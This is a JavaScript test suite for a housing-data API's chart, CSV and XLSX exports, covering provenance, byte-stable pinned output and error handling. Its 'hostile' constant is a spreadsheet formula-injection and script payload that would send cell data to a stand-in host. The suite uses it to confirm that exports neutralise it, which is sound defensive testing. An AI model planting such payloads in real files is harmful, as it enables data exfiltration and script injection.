// Charts and workbooks: pictures and files of series that say where they come from, and stay the same once pinned.
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import test, { before } from 'node:test';
import { inflateRawSync } from 'node:zlib';
import { assertKept, assertProblem } from './support/contract.mjs';
import { parseCsv } from './support/csv.mjs';
import { metroValues, names, writeFixtures, zillow } from './support/fixtures.mjs';
import { housing, housingOk, serve, temporaryFolder } from './support/housing.mjs';
import { get } from './support/http.mjs';

const question = 'region=metro-41860,us&metric=home_value';
const pinned = [
  `/api/v1/chart.svg?${question}&as_of=2025-03-01`,
  `/api/v1/chart.png?${question}&as_of=2025-03-01&width=400&height=300`,
  `/api/v1/series?${question}&as_of=2025-03-01&format=csv`,
  `/api/v1/series?${question}&as_of=2025-03-01&format=xlsx`,
];
const hostile = '=HYPERLINK("http://x.example/?"&A1,"<script>alert(1)</script>")';

let folder;
let data;
let base;
let first;
const bytes = async () => Promise.all(pinned.map(async (target) => (await get(base, target)).bytes.toString('base64')));

before(async () => {
  folder = temporaryFolder();
  data = join(folder, 'data');
  for (const name of ['older', 'newer', 'odd']) mkdirSync(join(folder, name));
  const file = (name) => join(folder, name, names.metroValues);
  writeFileSync(file('older'), metroValues({ shift: 7 }));
  writeFileSync(file('newer'), metroValues());
  await housingOk(['import', '--data-dir', data, '--released', '2025-02-16', file('older')]);
  ({ base } = await serve(data));
  first = await bytes();
  await housingOk(['import', '--data-dir', data, '--released', '2025-03-16', file('newer')]);
  const rest = Object.values(writeFixtures(join(folder, 'rest')));
  await housingOk(['import', '--data-dir', data, '--released', '2025-06-01', ...rest]);
  // A publisher's place that nobody knows, with a name made to do harm.
  const [header, row] = parseCsv(metroValues());
  writeFileSync(
    file('odd'),
    zillow(header.slice(5), [[999902, 941, hostile, 'msa', 'CA', ...row.slice(5)]]).replace(
      `"${hostile}"`,
      `"${hostile.replaceAll('"', '""')}"`,
    ),
  );
  await housingOk(['import', '--data-dir', data, '--released', '2025-07-01', file('odd')]);
  // The server looks for new publications every second.
  for (let i = 0; i < 100; ++i) {
    const { json } = await get(base, '/api/v1/imports');
    if (json.imports.some(({ release }) => release === '2025-07-01')) break;
    await new Promise((done) => setTimeout(done, 100));
  }
});

/** {name: text} of the parts of a workbook: a zip archive, read by its central directory. */
function parts(archive) {
  const found = {};
  const end = archive.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
  let at = archive.readUInt32LE(end + 16);
  for (let i = archive.readUInt16LE(end + 10); i > 0; --i) {
    const [size, name, extra, comment] = [20, 28, 30, 32].map((offset, k) =>
      k === 0 ? archive.readUInt32LE(at + offset) : archive.readUInt16LE(at + offset),
    );
    const local = archive.readUInt32LE(at + 42);
    const begin = local + 30 + archive.readUInt16LE(local + 26) + archive.readUInt16LE(local + 28);
    found[archive.toString('utf8', at + 46, at + 46 + name)] = inflateRawSync(
      archive.subarray(begin, begin + size),
    ).toString('utf8');
    at += 46 + name + extra + comment;
  }
  return found;
}

const unescaped = (text) =>
  text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&');

/** Rows of a sheet as {A: value, …}: numbers are numbers, text is text. */
function sheetRows(xml) {
  return [...xml.matchAll(/<row [^>]*>(.*?)<\/row>/gs)].map(([, row]) =>
    Object.fromEntries(
      [...row.matchAll(/<c r="([A-Z]+)\d+"([^>]*)>(.*?)<\/c>/gs)].map(([, column, attributes, content]) => [
        column,
        attributes.includes('inlineStr')
          ? unescaped(/<t[^>]*>(.*?)<\/t>/s.exec(content)[1])
          : Number(/<v>(.*?)<\/v>/.exec(content)[1]),
      ]),
    ),
  );
}

test('a chart stands alone, tells itself in words and names its source', async () => {
  const target = `/api/v1/chart.svg?${question}&recessions=1`;
  const answer = await get(base, target);
  const svg = assertKept(target, answer);
  assert.match(svg, /^<svg [^>]*width="960" height="540"[^>]* role="img"/);
  assert.match(svg, /<title>Home value<\/title>/);
  assert.match(svg, /<desc>Line chart of 2 series from 2023-01 to 2025-03\..*San Francisco.*highest.*<\/desc>/);
  assert.match(svg, />Data: Zillow, released Mar 16, 2025, zillow\.com\/research\/data\. /);
  assert.match(svg, /the line is broken 1 time/);
  assert.doesNotMatch(svg, /<script|<style|href|url\(|NaN|synthetic/i);
  assert.match(answer.headers['content-security-policy'], /default-src 'none'/);
});

test('a picture has the size that was asked for', async () => {
  const target = `/api/v1/chart.png?${question}&width=1200&height=630&theme=dark`;
  const answer = await get(base, target);
  assertKept(target, answer);
  assert.equal(answer.bytes.toString('latin1', 1, 4), 'PNG');
  assert.deepEqual([answer.bytes.readUInt32BE(16), answer.bytes.readUInt32BE(20)], [1200, 630]);
  assert.ok(answer.bytes.length > 10_000);
});

test('pinned by as_of, every form is the same, byte for byte, after later releases', async () => {
  assert.deepEqual(await bytes(), first);
  for (const target of pinned) {
    const today = await get(base, target.replace('&as_of=2025-03-01', ''));
    assert.ok(!first.includes(today.bytes.toString('base64')), `${target}: later releases changed nothing`);
  }
});

test('a chart of a day says which', async () => {
  assert.match((await get(base, pinned[0])).text, />As it was known on Mar 1, 2025\.</);
});

test('a picture that did not change is not sent again', async () => {
  for (const target of [pinned[0], `/api/v1/chart.png?${question}`]) {
    const { headers } = await get(base, target);
    const again = await get(base, target, { 'If-None-Match': headers.etag });
    assert.equal(again.status, 304, target);
    assert.equal(again.bytes.length, 0);
  }
});

test('a chart that cannot be drawn says which parameter is at fault', async () => {
  const chart = (more) => get(base, `/api/v1/chart.svg?${more}`);
  assertProblem(await chart(`${question}&width=12`), 'bad-number', { parameter: 'width' });
  assertProblem(await chart(`${question}&height=1e3`), 'bad-number', { parameter: 'height' });
  assertProblem(await chart(`${question}&theme=blue`), 'unknown-theme', { suggestions: ['light', 'dark'] });
  assertProblem(await chart(`${question}&scale=cubic`), 'unknown-scale', { suggestions: ['linear', 'log'] });
  assertProblem(await chart(`${question}&recessions=2`), 'bad-parameter', { parameter: 'recessions' });
  assertProblem(await chart(`${question}&title=${'x'.repeat(201)}`), 'limit-exceeded', { parameter: 'title' });
  assertProblem(await chart(`${question}&title=%01`), 'bad-title');
  const falling = 'region=state-tx&metric=home_value&transform=yoy&scale=log';
  assertProblem(await chart(falling), 'scale-does-not-apply', { suggestions: ['linear'] });
  assertProblem(await chart('region=us&metric=rent&as_of=2020'), 'no-data');
  const threeUnits = 'region=us&metric=home_value,cpi,mortgage_rate';
  assertProblem(await chart(threeUnits), 'too-many-units', { parameter: 'metric' });
  assertProblem(await chart('region=us,state-ca,state-tx&metric=home_value,rent,cpi,mortgage_rate'), 'limit-exceeded');
  assertProblem(await chart('region=metro-1&metric=home_value'), 'unknown-region');
  assertProblem(await chart(`${question}&colour=red`), 'unknown-parameter', { parameter: 'colour' });
});

test('a workbook has typed numbers and days, and says where each comes from', async () => {
  const target = `/api/v1/series?region=metro-41860&metric=home_value,rent&from=2025-01&format=xlsx`;
  const answer = await get(base, target);
  assertKept(target, answer);
  assert.match(answer.headers['content-disposition'], /attachment; filename="series\.xlsx"/);
  const workbook = parts(answer.bytes);
  const [header, ...rows] = sheetRows(workbook['xl/worksheets/sheet1.xml']);
  assert.deepEqual(Object.values(header), [
    'region',
    'region_name',
    'metric',
    'period',
    'period_end',
    'value',
    'unit',
    'transform',
    'import',
  ]);
  const { json } = await get(base, target.replace('&format=xlsx', ''));
  const expected = json.series.flatMap(({ periods, values }) => periods.map((period, i) => [period, values[i]]));
  assert.deepEqual(
    rows.map((row) => [row.D, row.F ?? null]),
    expected,
  );
  assert.equal(rows[0].E, (Date.parse('2025-01-31') - Date.parse('1899-12-30')) / 86_400_000);
  const [names, ...origins] = sheetRows(workbook['xl/worksheets/sheet2.xml']);
  const origin = Object.fromEntries(Object.entries(names).map(([column, name]) => [name, origins[0][column]]));
  const { prov } = json.series[0];
  for (const name of ['source', 'sha256', 'licence', 'attribution', 'file', 'retrieved', 'url', 'formula'])
    assert.equal(origin[name], prov[name], name);
  assert.equal(origin.import, prov.id);
  assert.equal(origin.address, target);
  assert.ok(rows.every((row) => origins.some(({ A: id }) => id === row.I)));
});

test('CSV says of each value which file it comes from', async () => {
  const target = `/api/v1/series?region=metro-41860&metric=home_value&transform=yoy&last=2&format=csv`;
  const [header, ...rows] = parseCsv(assertKept(target, await get(base, target)));
  const { json } = await get(base, target.replace('&format=csv', ''));
  const { prov } = json.series[0];
  assert.equal(rows.length, 2);
  for (const row of rows)
    for (const name of ['source', 'release', 'retrieved', 'sha256', 'licence', 'formula'])
      assert.equal(row[header.indexOf(name)], prov[name], name);
});

test("a publisher's name that would be a formula or markup stays text everywhere", async () => {
  const target = '/api/v1/series?region=x-zillow-999902&metric=home_value&last=1';
  const rows = parseCsv((await get(base, `${target}&format=csv`)).text);
  assert.equal(rows[1][1][0], "'", rows[1][1]);
  const sheet = parts((await get(base, `${target}&format=xlsx`)).bytes)['xl/worksheets/sheet1.xml'];
  assert.doesNotMatch(sheet, /<f>|<hyperlink/);
  assert.ok(sheetRows(sheet)[1].B.startsWith('=HYPERLINK('));
  const svg = (await get(base, target.replace('series?', 'chart.svg?'))).text;
  assert.doesNotMatch(svg, /<script/);
  assert.match(svg, /=HYPERLINK\(&quot;/);
});

test('the command line writes the same bytes', async () => {
  const asked = ['--region', 'metro-41860,us', '--metric', 'home_value', '--as-of', '2025-03-01'];
  const common = ['export', '--data-dir', data, ...asked];
  const cases = [
    ['svg', pinned[0], []],
    ['png', pinned[1], ['--width', '400', '--height', '300']],
    ['csv', pinned[2], []],
  ];
  for (const [format, target, more] of cases) {
    const file = join(folder, `out.${format}`);
    await housingOk([...common, '--format', format, '--output', file, ...more]);
    assert.deepEqual(readFileSync(file), (await get(base, target)).bytes, format);
  }
  const { code, stderr } = await housing(['export', '--data-dir', data, '--region', 'us', '--metric', 'nothing']);
  assert.equal(code, 2);
  assert.match(stderr, /unknown-metric/);
  assert.equal((await housing([...common, '--format', 'docx'])).code, 2);
});

test('over demonstration data a chart is stamped', async () => {
  const demo = join(folder, 'demo');
  await housingOk(['demo', '--data-dir', demo]);
  const chart = ['export', '--data-dir', demo, '--region', 'us', '--metric', 'home_value', '--format', 'svg'];
  const { stdout } = await housingOk(chart);
  assert.match(stdout, />SYNTHETIC DATA</);
  assert.match(stdout, />Synthetic demonstration data: /);
  const file = join(folder, 'demo.xlsx');
  await housingOk([...chart.slice(0, -1), 'xlsx', '--output', file]);
  assert.match(parts(readFileSync(file))['xl/worksheets/sheet3.xml'], /Synthetic demonstration data/);
});
